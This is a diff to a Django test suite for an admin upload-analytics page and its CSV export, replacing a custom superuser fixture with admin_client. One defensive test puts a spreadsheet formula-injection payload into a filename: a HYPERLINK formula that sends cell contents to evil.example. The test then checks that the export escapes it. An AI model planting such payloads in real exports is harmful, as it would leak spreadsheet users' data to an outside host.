@@ -7,7 +7,6 @@ from datetime import date
 
 import pytest
 from django.contrib.auth.models import Permission
-from django.test import Client
 
 from tests.fixtures.analytics import (
     BAD_IMAGE,
@@ -18,7 +17,9 @@ from tests.fixtures.analytics import (
     MiB,
     analytics_uploads,
     at,
+    figure,
     make_upload,
+    rows,
 )
 from uploads.core.models import Upload
 from uploads.reports.analytics import Window, upload_section
@@ -29,23 +30,6 @@ pytestmark = pytest.mark.django_db
 PAGE = "/admin/uploads/uploadanalytics/"
 REPORT = "/admin/uploads/upload/report/"
 WINDOW = {"window": "custom", "first_day": "2026-03-02", "last_day": "2026-03-04"}
-
-
-@pytest.fixture
-def root(django_user_model):
-    client = Client()
-    client.force_login(
-        django_user_model.objects.create_superuser("root", "root@example.org", "root-password-7")
-    )
-    return client
-
-
-def figure(section, slug):
-    return next(f for f in section.figures if f.slug == slug)
-
-
-def rows(section, slug):
-    return figure(section, slug).rows
 
 
 def test_the_figures_of_all_purposes_match_a_count_made_by_hand(alice):
@@ -133,10 +117,10 @@ def test_an_empty_window_has_zeros_and_gaps_and_divides_by_nothing(alice):
     assert headline["Bytes stored in total"] == "211.0 MB"
 
 
-def test_the_page_draws_every_figure_and_links_its_csv(root, alice):
+def test_the_page_draws_every_figure_and_links_its_csv(admin_client, alice):
     analytics_uploads(alice)
 
-    response = root.get(PAGE, WINDOW)
+    response = admin_client.get(PAGE, WINDOW)
 
     assert response.status_code == 200
     page = response.content.decode()
@@ -151,10 +135,12 @@ def test_the_page_draws_every_figure_and_links_its_csv(root, alice):
     assert NOT_A_ZIP in page
 
 
-def test_the_csv_holds_the_same_figures(root, alice):
+def test_the_csv_holds_the_same_figures(admin_client, alice):
     analytics_uploads(alice)
 
-    response = root.get(PAGE, {**WINDOW, "purpose": "version_file", "csv": "uploads-per-day"})
+    response = admin_client.get(
+        PAGE, {**WINDOW, "purpose": "version_file", "csv": "uploads-per-day"}
+    )
 
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
@@ -169,12 +155,12 @@ def test_the_csv_holds_the_same_figures(root, alice):
         ["2026-03-03", "3", "0", "0", "1", "1", "1"],
         ["2026-03-04", "0", "0", "0", "0", "0", "0"],
     ]
-    gaps = root.get(PAGE, {**WINDOW, "csv": "time-to-ready"}).content.decode().splitlines()
+    gaps = admin_client.get(PAGE, {**WINDOW, "csv": "time-to-ready"}).content.decode().splitlines()
     assert gaps[-1] == "2026-03-04,,"  # no uploads: an empty cell, not a zero
 
 
-def test_the_first_visit_shows_the_last_seven_days(root):
-    response = root.get(PAGE)
+def test_the_first_visit_shows_the_last_seven_days(admin_client):
+    response = admin_client.get(PAGE)
 
     assert response.status_code == 200
     window = response.context["window"]
@@ -193,20 +179,20 @@ def test_the_first_visit_shows_the_last_seven_days(root):
         ({"window": "custom", "first_day": "yesterday", "last_day": "2026-01-01"}, "valid date"),
     ],
 )  # fmt: skip
-def test_a_bad_window_is_a_form_error(root, query, message):
-    response = root.get(PAGE, query)
+def test_a_bad_window_is_a_form_error(admin_client, query, message):
+    response = admin_client.get(PAGE, query)
 
     assert response.status_code == 400
     assert message in response.content.decode()
 
 
-def test_an_unknown_figure_is_not_found(root):
-    assert root.get(PAGE, {"csv": "nonsense"}).status_code == 404
+def test_an_unknown_figure_is_not_found(admin_client):
+    assert admin_client.get(PAGE, {"csv": "nonsense"}).status_code == 404
 
 
-def test_it_is_linked_from_the_admin_index_and_the_upload_list(root):
-    assert PAGE in root.get("/admin/").content.decode()
-    assert PAGE in root.get("/admin/uploads/upload/").content.decode()
+def test_it_is_linked_from_the_admin_index_and_the_upload_list(admin_client):
+    assert PAGE in admin_client.get("/admin/").content.decode()
+    assert PAGE in admin_client.get("/admin/uploads/upload/").content.decode()
 
 
 def test_strangers_are_sent_to_sign_in(client, alice):
@@ -229,12 +215,12 @@ def test_staff_without_the_permission_are_refused(client, alice):
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_csv_cells_that_would_start_a_formula_are_written_as_text(root, alice, start):
+def test_csv_cells_that_would_start_a_formula_are_written_as_text(admin_client, alice, start):
     uploads = analytics_uploads(alice)
     name = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"click")'
     Upload.objects.filter(pk=uploads["big map"].pk).update(filename=name)
 
-    response = root.get(PAGE, {**WINDOW, "csv": "largest-uploads"})
+    response = admin_client.get(PAGE, {**WINDOW, "csv": "largest-uploads"})
 
     table = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
     assert table[1][0] == "'" + name  # the largest upload: the apostrophe makes it text
@@ -242,9 +228,9 @@ def test_csv_cells_that_would_start_a_formula_are_written_as_text(root, alice, s
     assert table[1][2] == "40000000"  # and numbers stay numbers
 
 
-def test_the_selector_shows_the_window_the_page_covers_when_none_is_chosen(root):
+def test_the_selector_shows_the_window_the_page_covers_when_none_is_chosen(admin_client):
     for query in [{}, {"purpose": "version_file"}, {"window": ""}]:
-        response = root.get(PAGE, query)
+        response = admin_client.get(PAGE, query)
 
         assert response.status_code == 200, query
         window = response.context["window"]
